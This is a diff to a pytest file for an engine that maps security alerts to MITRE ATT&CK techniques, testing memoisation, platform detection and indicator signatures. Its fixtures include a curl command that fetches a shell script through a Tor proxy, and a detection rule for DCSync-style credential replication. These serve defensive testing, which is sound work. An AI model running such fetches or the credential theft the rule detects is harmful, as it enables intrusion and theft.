@@ -4,6 +4,7 @@ pipeline gives, for every alert shape, and must never replay what it may not."""
 from __future__ import annotations
 
 import copy
+import dataclasses
 import json
 import random
 from collections.abc import Mapping
@@ -14,7 +15,16 @@ import pytest
 
 from mitre.assemble import EngineOptions, build_engine
 from mitre.config import WorkflowsFile
-from mitre.features import FEATURE_INPUTS, features_from_flat, flatten, flatten_alert
+from mitre.features import (
+    EVENT_TYPE_INPUTS,
+    FEATURE_INPUTS,
+    PLATFORM_INPUTS,
+    detect_platform,
+    event_type,
+    features_from_flat,
+    flatten,
+    flatten_alert,
+)
 from mitre.models import OutcomeStatus, RawAlert
 from tests.helpers import LSASS_COMMAND, kibana_alert, threat_entry
 
@@ -168,3 +178,106 @@ ODD_SHAPES = [
 def test_input_view_matches_a_full_flatten_on_odd_shapes(alert: dict[str, Any]):
     full = flatten(alert)
     assert flatten_alert(alert) == {k: v for k, v in full.items() if k in set(FEATURE_INPUTS)}
+
+
+def _written(outcome: Any) -> tuple[Any, ...]:
+    """What a run writes for an alert, less the time it ran."""
+    alert = copy.deepcopy(outcome.alert)
+    if alert is not None and isinstance(alert.get("attackmap"), dict):
+        alert["attackmap"].pop("enriched_at", None)
+    mapping = outcome.mapping.model_dump() if outcome.mapping else None
+    return outcome.status, outcome.reason, outcome.cache_hit, alert, mapping, outcome.line
+
+
+def test_memo_on_and_off_write_the_same_on_a_realistic_stream(tmp_path: Path):
+    """Hosts, agents, users (in profile paths and SIDs too), ids, PIDs, temp names and new command lines
+    all vary: the memo still answers most alerts, and what it answers is what the full pipeline writes."""
+    from devtools.alertgen import RealisticAlerts
+
+    stream = RealisticAlerts(EXAMPLES, hosts=400, users=60, distinct_commands=0.05, seed=5)
+    alerts = list(stream.stream(2_400))
+    items = [RawAlert(line=n, raw=json.dumps(a).encode()) for n, a in enumerate(alerts, start=1)]
+    batches = [items[i : i + 600] for i in range(0, len(items), 600)]
+    options = EngineOptions(knowledge_base=(), cache=True, cache_dir=tmp_path / "on")
+    on = build_engine(WorkflowsFile(), options=options)
+    off = build_engine(WorkflowsFile(), options=dataclasses.replace(options, cache_dir=tmp_path / "off"))
+    off._sign = lambda flat: None  # type: ignore[method-assign]  # no outcome memo: every alert through features, decision, cache and enrichment
+    with_memo = [o for batch in batches for o in on.process_batch(batch)]
+    without = [o for batch in batches for o in off.process_batch(batch)]
+    assert [_written(o) for o in with_memo] == [_written(o) for o in without]
+    remembered = sum(o.remembered for o in with_memo)
+    assert not any(o.remembered for o in without)
+    assert remembered / len(items) > 0.8, remembered
+
+
+@pytest.mark.parametrize("index", range(len(EXAMPLES)))
+def test_platform_detection_reads_only_the_platform_inputs(index: int):
+    """The signature keeps these raw (a list and its text differ there): they must be all it reads."""
+    recording = _Recording({**{name: "x" for name in FEATURE_INPUTS}, **flatten(EXAMPLES[index])})
+    for name in ("host.os.type", "host.os.platform", "host.os.family", "host.os.name", "agent.os"):
+        recording.data[name] = ""  # read past every platform field
+    detect_platform(recording)
+    assert recording.read <= set(PLATFORM_INPUTS)
+
+
+def test_what_normalising_hides_from_an_indicator_still_splits_key_and_signature(tmp_path: Path):
+    """An IP and a port normalise to <ip>:<n>, but tor-proxy fires on 127.0.0.1:9050 only: those alerts
+    must not share a mapping or an outcome; another host and PID with the same reading must."""
+    engine = _engine(tmp_path)
+
+    def alert(proxy: str, host: str, pid: int) -> dict[str, Any]:
+        return {
+            "kibana.alert.rule.name": "Unusual Network Client",
+            "kibana.alert.risk_score": 73,
+            "host": {"name": host, "os": {"type": "linux"}},
+            "process": {"pid": pid, "command_line": f"curl --socks5-hostname {proxy} http://files.example.org/a.sh"},
+        }
+
+    def techniques(outcome: Any) -> set[str]:
+        return {t["id"] for t in outcome.alert["attackmap"]["techniques"]}
+
+    other = engine.process(alert("10.20.30.40:9050", "web-1", 4242))
+    tor = engine.process(alert("127.0.0.1:9050", "web-1", 4242))
+    again = engine.process(alert("127.0.0.1:9050", "web-2", 5151))
+    assert "T1090.003" not in techniques(other) and not tor.remembered and not tor.cache_hit
+    assert "T1090.003" in techniques(tor)
+    assert again.remembered and techniques(again) == techniques(tor)
+    keys = [o.alert["attackmap"]["mapping_key"] for o in (other, tor, again)]
+    assert keys[0] != keys[1] == keys[2]  # the indicators' hits are in the key, the host and PID are not
+
+
+def test_an_identity_field_an_indicator_requires_enters_as_what_it_decides(catalog):
+    """A `requires` on user.name (not a machine account): users the pattern accepts share a signature,
+    a machine account does not; with no such indicator, the user is only present or absent."""
+    from mitre.indicators import Indicator, IndicatorSet
+    from mitre.signature import OutcomeSignature
+
+    replication = Indicator(
+        id="replication-by-a-person",
+        name="test",
+        techniques=("T1003.006",),
+        fields=("message",),
+        pattern="1131f6ad-9c07-11d1-f79f-00c04fb984f2",
+        requires={"user.name": r"[^$\s]\s*$"},
+        confidence=0.85,
+    )
+    sign = OutcomeSignature(IndicatorSet([replication], catalog))
+    message = "Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2} Control Access"
+
+    def flat(user: str, guid_message: str = message) -> dict[str, Any]:
+        return flatten_alert({"kibana.alert.rule.name": "r", "user": {"name": user}, "message": guid_message})
+
+    assert sign(flat("alice")) == sign(flat("bob")) != sign(flat("DC01$"))
+    other_guid = message.replace("1131f6ad", "2222f6ad")
+    assert sign(flat("alice", other_guid)) != sign(flat("alice"))  # normalised alike, read differently
+    plain = OutcomeSignature(IndicatorSet([], catalog))
+    assert plain(flat("alice")) == plain(flat("DC01$"))
+
+
+def test_the_event_type_reads_only_its_inputs():
+    """The signature keeps these raw: they must be all event_type reads."""
+    recording = _Recording({name: "security" for name in FEATURE_INPUTS} | {"winlog.event_id": "4662"})
+    assert event_type(recording) == "security:4662"
+    empty = _Recording({"event.code": "4688"})
+    event_type(empty)
+    assert recording.read <= set(EVENT_TYPE_INPUTS) and empty.read <= set(EVENT_TYPE_INPUTS)
